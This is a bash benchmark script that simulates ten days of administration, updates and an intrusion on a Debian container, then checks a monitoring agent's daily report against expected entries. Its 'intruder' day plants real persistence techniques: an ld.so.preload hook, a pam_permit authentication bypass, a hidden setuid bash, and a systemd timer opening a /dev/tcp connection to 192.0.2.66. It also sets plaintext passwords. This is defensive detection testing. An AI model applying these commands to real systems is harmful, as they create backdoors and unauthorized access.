#!/usr/bin/env bash
# Lives ten days on a booted Debian 12 in a container: what administrators, updates,
# programs, an intruder and a reviewer do is done, the agent looks after each, and its
# page is held against what stands here beforehand: how many entries may be new, what
# has to stand on the first screen, and that a day fits on two screens of 60 lines.
#
#   bench/tendays.sh [OUT]    prints a line a day, and keeps the pages in OUT
#                             the exit status is what fell short
#
# What it needs says machine.sh.
set -u
short=0 out=$(realpath -m "${1:-$(mktemp -d)}")
mkdir -p "$out"
# shellcheck source=bench/machine.sh
. "$(dirname "$0")/machine.sh"
sh_() { m bash -c "$1"; }
apt() { net apt-get -y --no-install-recommends "$@" >>"$out/apt.log" 2>&1 || falls "apt-get $*"; }
falls() { # WHAT
	echo "SHORT $1"
	short=$((short + 1))
}

# entries counts those of the sections that tell of something new.
entries() {
	awk '/^[A-Z][A-Z]/ { on = /^(NEW|WORSE|CHANGED|UPDATED|BACK|REGRESSED)/ } on && /^  (CRITICAL|WARNING|NOTICE|INFO) / { n++ } END { print n + 0 }' "$1"
}

# day NAME MOST MUST...: the agent looks; at most MOST entries are new, and each MUST, a
# regular expression, stands in the first 60 lines.
day() {
	local page="$out/$1.txt" name=$1 most=$2 rc new lines
	shift 2
	m agent >"$page" 2>"$page.err"
	rc=$? new=$(entries "$page") lines=$(wc -l <"$page")
	printf '%-13s %2s new, %3s lines  %s\n' "$name" "$new" "$lines" "$(head -1 "$page")"
	[ "$rc" -le 3 ] || falls "$name: exit $rc: $(head -c 300 "$page.err")"
	[ "$new" -le "$most" ] || falls "$name: $new new, at most $most"
	[ "$lines" -le 120 ] || falls "$name: $lines lines"
	for must in "$@"; do
		head -60 "$page" | grep -qE -- "$must" || falls "$name: not on the first screen: $must"
	done
}

day 1-first 0 'baseline taken'
day 2-quiet 0 'nothing new'

sh_ 'echo "17 3 * * * /usr/local/sbin/dump-it" | crontab -
echo "net.ipv4.ip_forward = 1" >/etc/sysctl.d/90-route.conf
echo "PasswordAuthentication yes" >>/etc/ssh/sshd_config
echo "export EDITOR=ed" >>/root/.profile'
day 3-edits 4 'dump-it' 'ip_forward' 'PasswordAuthentication yes' '/root/.profile'

apt install nginx-light ed
day 4-server 3 'nginx'

apt upgrade
day 5-updates 3

apt purge nginx-light nginx-common
apt autoremove --purge
# What it took along is told: who serves no more, which logs are gone, and by whom.
day 6-purge 5 'nginx.* no longer listens' 'error\.log was deleted' 'access\.log is gone' 'packages were removed by apt-get'

sh_ 'groupadd ops; useradd -m -s /bin/bash -G ops,sudo bob; echo "bob:ot7-Vhw!pq" | chpasswd
install -d -m 700 -o bob -g bob /home/bob/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBn4l1fT2j0m1Zk1n2w3u4y5a6s7d8f9g0h1j2k3l4z5 bob@desk" >/home/bob/.ssh/authorized_keys
chown bob:bob /home/bob/.ssh/authorized_keys; echo "root:zz-Kq91.fw" | chpasswd'
day 7-accounts 4 'bob' 'sudo' 'root.*password|password.*root'

sh_ 'cp /lib/x86_64-linux-gnu/libm.so.6 /usr/local/lib/libz9.so; echo /usr/local/lib/libz9.so >/etc/ld.so.preload
sed -i "1i auth sufficient pam_permit.so" /etc/pam.d/common-auth
printf "\0" >>/usr/bin/ls
printf "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n" >/etc/systemd/system/fetch.timer
printf "[Service]\nType=oneshot\nExecStart=/bin/sh -c \"exec 3<>/dev/tcp/192.0.2.66/443\"\n" >/etc/systemd/system/fetch.service
systemctl daemon-reload; systemctl enable -q --now fetch.timer
cp /bin/bash /var/lib/misc/.b; chmod 4755 /var/lib/misc/.b
usermod -s /bin/bash -p "\$6\$x\$y" games'
day 8-intruder 12 'ld\.so\.preload' 'common-auth|pam_permit' '/usr/bin/ls' 'fetch\.(timer|service)' '/var/lib/misc/\.b' 'games'

sh_ 'for i in $(seq 300); do logger -t "stockd[$((3000 + i))]" "item $i of shelf $((i % 7)) could not be counted"; done
for i in $(seq 80); do logger -p auth.info -t "sshd[$((7000 + i))]" "Invalid user guest$i from 203.0.113.$((i % 5)) port $((30000 + i))"; done
for i in $(seq 40); do logger -p daemon.err -t backupd "cannot reach the tape: timeout after $i s"; done
printf "[Unit]\nDescription=Night work\n[Service]\nType=oneshot\nExecStart=/bin/sh -c \"echo out of paper >&2; exit 4\"\n" >/etc/systemd/system/nightwork.service
systemctl daemon-reload; systemctl start nightwork.service; true' 2>/dev/null
day 9-noise 9 'nightwork' 'backupd'
grep -q 'stockd wrote 300 lines' "$out/9-noise.txt" || falls '9-noise: stockd is not told'
head -2 "$out/9-noise.txt" | grep -q critical || falls "9-noise: its headline does not say what is critical"

m agent review accept -by bob -comment looked-at all >"$out/accept.txt" 2>&1 && m agent review sign -by bob >"$out/sign.txt" 2>&1 ||
	falls "10-signed: $(head -1 "$out/accept.txt" "$out/sign.txt" | tr '\n' ' ')"
day 10-signed 0 'nothing new'
sed "/^WELL/,\$d" "$out/10-signed.txt" | grep -qE "^  (critical|CRITICAL|warning|WARNING)" && falls "10-signed: what was accepted is still listed"
echo "$short fell short"
exit "$short"
